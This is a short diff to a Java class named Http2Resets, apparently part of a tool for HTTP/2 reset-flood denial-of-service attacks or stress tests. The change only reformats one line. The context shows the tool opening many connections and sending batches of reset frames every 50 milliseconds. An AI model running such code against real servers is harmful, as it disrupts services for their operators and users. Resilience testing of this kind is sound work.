@@ -26,7 +26,11 @@ final class Http2Resets implements Attack {
     @Override
     public void run(Stage stage) throws IOException {
         stream = 1;
-        stage.crowd().gather(CONNECTIONS, stranger -> stranger.send(Http2Frames.connection(1 << 20).bytes()));
+        stage.crowd()
+                .gather(
+                        CONNECTIONS,
+                        stranger ->
+                                stranger.send(Http2Frames.connection(1 << 20).bytes()));
         stage.every(Duration.ofMillis(50), () -> {
             byte[] resets = nextResets();
             stage.crowd().strangers().stream().filter(Stranger::isOpen).forEach(stranger -> stranger.send(resets));
